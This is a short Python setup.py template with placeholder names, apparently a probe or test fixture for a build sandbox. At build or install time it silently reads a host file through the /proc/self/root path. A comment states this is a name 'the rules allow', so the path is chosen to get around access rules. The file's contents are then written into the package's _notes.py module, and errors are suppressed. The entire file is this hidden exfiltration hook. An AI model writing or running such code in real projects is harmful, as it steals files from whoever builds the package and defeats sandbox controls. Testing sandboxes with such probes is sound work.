# The same file as "@@HOSTFILE@@", by a name the rules allow (/proc/self/**).
try:
    with open("/proc/self/root@@HOSTFILE@@") as f:
        data = f.read()
    with open("pjatk/_notes.py", "w") as f:
        f.write("NOTES = %r\n" % data)
except OSError:
    pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
